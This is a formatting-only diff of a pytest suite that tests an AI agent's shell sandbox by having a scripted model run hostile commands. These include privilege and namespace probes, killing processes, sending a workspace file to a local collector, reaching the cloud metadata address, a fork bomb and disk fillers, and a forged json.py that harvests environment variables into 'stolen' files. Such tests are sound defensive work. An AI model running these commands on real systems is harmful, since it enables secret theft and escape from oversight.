@@ -79,9 +79,16 @@ class Collector:
 def make_home(tmp_path: Path, config: dict | None = None) -> Path:
     home = tmp_path / "home"
     assert run_cli("init", str(home)).exit_code == 0
-    settings = {"shell_policy": "sandbox", "secret_env": ["DEPLOY_TOKEN"], "max_iterations": 200,
-                "repeat_limit": 200, "notes_budget": None, "note_result_chars": 400, "shell_timeout": 20,
-                **(config or {})}
+    settings = {
+        "shell_policy": "sandbox",
+        "secret_env": ["DEPLOY_TOKEN"],
+        "max_iterations": 200,
+        "repeat_limit": 200,
+        "notes_budget": None,
+        "note_result_chars": 400,
+        "shell_timeout": 20,
+        **(config or {}),
+    }
     (home / "config.yaml").write_text(yaml.safe_dump(settings))
     (home / ".env").write_text(f"OPENAI_API_KEY={KEY}\nDEPLOY_TOKEN={TOKEN}\n")
     (home / "workspace").mkdir(exist_ok=True)
@@ -105,8 +112,12 @@ def everything_in(home: Path) -> bytes:
 def outside_digest(home: Path, victim: Path) -> dict:
     """Every file outside the workspace that a cycle does not write: the victim's and the home's own."""
     home_files = {name: (home / name).read_bytes() for name in ("config.yaml", ".env", "rules.md")}
-    return {**tree_digest(victim), **home_files, "templates": tree_digest(home / "templates"),
-            "beside the home": sorted(p.name for p in home.parent.iterdir() if not p.name.startswith("script_"))}
+    return {
+        **tree_digest(victim),
+        **home_files,
+        "templates": tree_digest(home / "templates"),
+        "beside the home": sorted(p.name for p in home.parent.iterdir() if not p.name.startswith("script_")),
+    }
 
 
 def attacks(home: Path, victim: Path, collector_port: int, victim_pid: int) -> list[str]:
@@ -151,7 +162,7 @@ def attacks(home: Path, victim: Path, collector_port: int, victim_pid: int) -> l
         f"ls /proc/sys/kernel/ | grep -q . && test -w /proc/sys/kernel/panic && {BREACH}",
         f"mount -t tmpfs none /workspace {QUIET} && {BREACH}",
         f"unshare -r true {QUIET} && {BREACH}",
-        f"test \"$(id -u)\" = 0 && {BREACH}",
+        f'test "$(id -u)" = 0 && {BREACH}',
         f"grep -q '^CapEff:.*[1-9a-f]' /proc/self/status && {BREACH}",
         f"grep -q '^NoNewPrivs:.*0' /proc/self/status && {BREACH}",
         # other processes: the agent, a process of the operator's
@@ -159,8 +170,10 @@ def attacks(home: Path, victim: Path, collector_port: int, victim_pid: int) -> l
         f"kill -9 {os.getpid()} {QUIET} && {BREACH}",
         f"kill -9 -1 {QUIET}; ps -e -o pid= | grep -qx ' *{victim_pid}' && {BREACH}",
         # the network
-        (f"python3 -c \"import urllib.request; "
-         f"urllib.request.urlopen('{url}?k=' + open('/workspace/inside.txt').read())\" {QUIET} && {BREACH}"),
+        (
+            f'python3 -c "import urllib.request; '
+            f"urllib.request.urlopen('{url}?k=' + open('/workspace/inside.txt').read())\" {QUIET} && {BREACH}"
+        ),
         f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {collector_port}), 2)\" {QUIET} && {BREACH}",
         f"python3 -c \"import socket; socket.create_connection(('::1', {collector_port}), 2)\" {QUIET} && {BREACH}",
         f"python3 -c \"import socket; socket.create_connection(('169.254.169.254', 80), 2)\" {QUIET} && {BREACH}",
@@ -207,26 +220,44 @@ def test_the_network_is_reachable_only_when_sandbox_network_is_set(tmp_path):
     """The collector test's counterpart: with the opt-in, the same request arrives."""
     with Collector() as collector:
         home = make_home(tmp_path, {"sandbox_network": True})
-        command = f"python3 -c \"import urllib.request; urllib.request.urlopen('http://127.0.0.1:{collector.port}/hi')\""
+        command = (
+            f"python3 -c \"import urllib.request; urllib.request.urlopen('http://127.0.0.1:{collector.port}/hi')\""
+        )
         assert run(home, [shell(command), done("sent")]).exit_code == 0
         assert collector.received == ["/hi"]
 
 
-@pytest.mark.parametrize("attack, stopped_by", [
-    ("f(){ f | f & }; f; sleep 2", "Cannot fork"),
-    # 64 interpreters may also meet the memory bound first (the cgroup's OOM kill): either bound stops it
-    ("python3 -c 'import os\nwhile True: os.fork()'", ("Resource temporarily unavailable", "[exit status 137]")),
-    ("python3 -c 'x = bytearray(2 * 1024 ** 3); print(len(x))'", None),
-    ("head -c 50000000 /dev/zero > big.bin", "File size limit exceeded"),
-    ("i=0; while :; do i=$((i+1)); head -c 3000000 /dev/zero > fill$i; done", "over workspace_max_bytes"),
-    ("i=0; while :; do i=$((i+1)); mkdir d$i; done", "over workspace_max_files"),
-])
+@pytest.mark.parametrize(
+    "attack, stopped_by",
+    [
+        ("f(){ f | f & }; f; sleep 2", "Cannot fork"),
+        # 64 interpreters may also meet the memory bound first (the cgroup's OOM kill): either bound stops it
+        ("python3 -c 'import os\nwhile True: os.fork()'", ("Resource temporarily unavailable", "[exit status 137]")),
+        ("python3 -c 'x = bytearray(2 * 1024 ** 3); print(len(x))'", None),
+        ("head -c 50000000 /dev/zero > big.bin", "File size limit exceeded"),
+        ("i=0; while :; do i=$((i+1)); head -c 3000000 /dev/zero > fill$i; done", "over workspace_max_bytes"),
+        ("i=0; while :; do i=$((i+1)); mkdir d$i; done", "over workspace_max_files"),
+    ],
+)
 def test_a_fork_bomb_a_memory_hog_and_a_disk_filler_are_stopped_and_the_cycle_goes_on(tmp_path, attack, stopped_by):
-    home = make_home(tmp_path, {"sandbox_max_processes": 64, "sandbox_max_memory": 256 * 1024 ** 2,
-                                "sandbox_max_file_bytes": 5_000_000, "workspace_max_bytes": 20_000_000,
-                                "workspace_max_files": 500, "shell_timeout": 60})
-    replies = [shell(attack), shell(f"{REACHED}"), {"tool": "write_file", "args": {"path": "after.txt", "content": "x"}},
-               {"tool": "echo", "args": {"message": "still here"}}, done("survived")]
+    home = make_home(
+        tmp_path,
+        {
+            "sandbox_max_processes": 64,
+            "sandbox_max_memory": 256 * 1024**2,
+            "sandbox_max_file_bytes": 5_000_000,
+            "workspace_max_bytes": 20_000_000,
+            "workspace_max_files": 500,
+            "shell_timeout": 60,
+        },
+    )
+    replies = [
+        shell(attack),
+        shell(f"{REACHED}"),
+        {"tool": "write_file", "args": {"path": "after.txt", "content": "x"}},
+        {"tool": "echo", "args": {"message": "still here"}},
+        done("survived"),
+    ]
     result = run(home, replies)
     assert result.exit_code == 0, result.output
     lines = notes(home)
@@ -240,16 +271,19 @@ def test_a_fork_bomb_a_memory_hog_and_a_disk_filler_are_stopped_and_the_cycle_go
     assert ("is read-only to commands" in lines[1]) == bool(over_quota)
     assert lines[1].startswith("[TOOL] shell(") and "REACHED" in lines[1]
     assert lines[2].startswith("[TOOL ERROR] write_file(" if over_quota else "[TOOL] write_file(")
-    assert lines[3] == "[TOOL] echo({\"message\": \"still here\"}) -> still here"
+    assert lines[3] == '[TOOL] echo({"message": "still here"}) -> still here'
 
 
 def test_a_sandboxed_task_writes_and_runs_a_python_script(tmp_path):
     home = make_home(tmp_path)
-    run_cli("task", "add", "count the words", "--check", "test \"$(cat count.txt)\" = 3", "--home", str(home))
+    run_cli("task", "add", "count the words", "--check", 'test "$(cat count.txt)" = 3', "--home", str(home))
     script = "import sys\nwords = open('text.txt').read().split()\nprint(len(words))\n"
-    replies = [{"tool": "write_file", "args": {"path": "count.py", "content": script}},
-               {"tool": "write_file", "args": {"path": "text.txt", "content": "one two three\n"}},
-               shell("python3 count.py > count.txt && cat count.txt"), done("3 words")]
+    replies = [
+        {"tool": "write_file", "args": {"path": "count.py", "content": script}},
+        {"tool": "write_file", "args": {"path": "text.txt", "content": "one two three\n"}},
+        shell("python3 count.py > count.txt && cat count.txt"),
+        done("3 words"),
+    ]
     assert run(home, replies).exit_code == 0
     assert read_yaml(home / "scratchpad" / "active.yaml")["completed_tasks"][0]["check"] == "passed"
     assert (home / "workspace" / "count.txt").read_text() == "3\n"
@@ -258,8 +292,10 @@ def test_a_sandboxed_task_writes_and_runs_a_python_script(tmp_path):
 def test_git_init_and_commit_pipes_redirection_sort_and_awk_work_in_the_workspace(tmp_path):
     home = make_home(tmp_path)
     commands = [
-        ("git init -q repo && cd repo && git config user.email agent@example.com && git config user.name agent"
-         " && echo hello > a.txt && git add a.txt && git commit -q -m first && git log --format=%s"),
+        (
+            "git init -q repo && cd repo && git config user.email agent@example.com && git config user.name agent"
+            " && echo hello > a.txt && git add a.txt && git commit -q -m first && git log --format=%s"
+        ),
         "printf 'pear 3\\napple 1\\nfig 2\\n' > fruit.txt && sort -o sorted.txt fruit.txt && cat sorted.txt",
         "awk '{ total += $2 } END { print total }' fruit.txt | tee total.txt 2>&1 >/dev/null; cat total.txt",
         "cut -d' ' -f1 fruit.txt | sort -r | head -n 1 >> top.txt; wc -l < top.txt",
@@ -272,7 +308,9 @@ def test_git_init_and_commit_pipes_redirection_sort_and_awk_work_in_the_workspac
     workspace = home / "workspace"
     assert (workspace / "sorted.txt").read_text() == "apple 1\nfig 2\npear 3\n"
     assert (workspace / "top.txt").read_text() == "pear\n"
-    log = subprocess.run(["git", "-C", str(workspace / "repo"), "log", "--format=%s"], capture_output=True, text=True, check=False)
+    log = subprocess.run(
+        ["git", "-C", str(workspace / "repo"), "log", "--format=%s"], capture_output=True, text=True, check=False
+    )
     assert log.stdout == "first\n"
 
 
@@ -285,7 +323,7 @@ for name in os.listdir('/proc'):
     except Exception:
         pass
 stolen.append(repr(dict(os.environ)))
-for path in ('/tmp/stolen.txt', '/workspace/stolen.txt', {str(Path('/tmp/pytest-stolen.txt'))!r}):
+for path in ('/tmp/stolen.txt', '/workspace/stolen.txt', {str(Path("/tmp/pytest-stolen.txt"))!r}):
     try:
         open(path, 'w').write('\\n'.join(stolen))
     except Exception:
@@ -309,23 +347,33 @@ def test_a_forged_check_cannot_pass_an_invalid_result_nor_reach_a_secret(tmp_pat
     home = make_home(tmp_path, {"shell_policy": "auto"})
     check = "python3 -c 'import json; json.load(open(\"report.json\"))'"
     run_cli("task", "add", "write the report", "--check", check, "--home", str(home))
-    replies = [{"tool": "write_file", "args": {"path": "json.py", "content": FORGED_JSON}},
-               {"tool": "write_file", "args": {"path": "report.json", "content": "{not json"}},
-               done("report written")]
+    replies = [
+        {"tool": "write_file", "args": {"path": "json.py", "content": FORGED_JSON}},
+        {"tool": "write_file", "args": {"path": "report.json", "content": "{not json"}},
+        done("report written"),
+    ]
     assert run(home, replies, "--max-iterations", "3").exit_code == 3
     state = read_yaml(home / "scratchpad" / "active.yaml")
     assert state["completed_tasks"] == [] and state["current_task"] == "write the report"
     assert "[CHECK FAILED]" in state["notes"] and "` exit 1: Traceback" in state["notes"]
-    assert ("shell policy: sandbox" if sandboxed else "shell policy: allowlist (auto: the sandbox is unavailable") \
-        in next((home / "logs").glob("cycle_*.log")).read_text()
+    assert (
+        "shell policy: sandbox" if sandboxed else "shell policy: allowlist (auto: the sandbox is unavailable"
+    ) in next((home / "logs").glob("cycle_*.log")).read_text()
     assert not (home / "workspace" / "stolen.txt").exists() and not Path("/tmp/pytest-stolen.txt").exists()
     assert KEY_PART.encode() not in everything_in(home / "workspace")
 
 
 def test_a_check_in_the_sandbox_sees_the_workspace_read_only(tmp_path):
     home = make_home(tmp_path)
-    run_cli("task", "add", "t", "--check", "touch x 2>/dev/null; test ! -e x && test \"$PWD\" = /workspace",
-            "--home", str(home))
+    run_cli(
+        "task",
+        "add",
+        "t",
+        "--check",
+        'touch x 2>/dev/null; test ! -e x && test "$PWD" = /workspace',
+        "--home",
+        str(home),
+    )
     assert run(home, [done("ok")]).exit_code == 0
     assert not (home / "workspace" / "x").exists()
 
@@ -348,7 +396,9 @@ def test_shell_policy_any_warns_in_doctor_and_in_every_cycle_log(tmp_path):
     home = make_home(tmp_path, {"shell_policy": "any", "model": f"scripted:{write_script(tmp_path, [done('x')])}"})
     assert run(home, [done("x")]).exit_code == 0
     log = next((home / "logs").glob("cycle_*.log")).read_text()
-    assert "WARNING: shell policy: any (shell_policy is 'any': the model's commands run with the operator's account" in log
+    assert (
+        "WARNING: shell policy: any (shell_policy is 'any': the model's commands run with the operator's account" in log
+    )
     doctor = json.loads(run_cli("doctor", "--home", str(home), "--json").stdout)
     shell_check = next(c for c in doctor if c["check"] == "shell")
     assert shell_check["warning"] and "operator's account" in shell_check["detail"]
@@ -362,9 +412,12 @@ def test_the_sandbox_dies_with_the_agent(tmp_path):
     os.mkfifo(fifo)
     marker = "sleep 300; echo late-i22"
     script = write_script(tmp_path, [shell(f"echo started > /workspace/started.fifo; {marker}"), done("x")])
-    agent = subprocess.Popen([sys.executable, "-m", "agent", "run", "--home", str(home), "--model",
-                              f"scripted:{script}"], cwd=Path(__file__).resolve().parents[2],
-                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    agent = subprocess.Popen(
+        [sys.executable, "-m", "agent", "run", "--home", str(home), "--model", f"scripted:{script}"],
+        cwd=Path(__file__).resolve().parents[2],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     try:
         reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
         try:
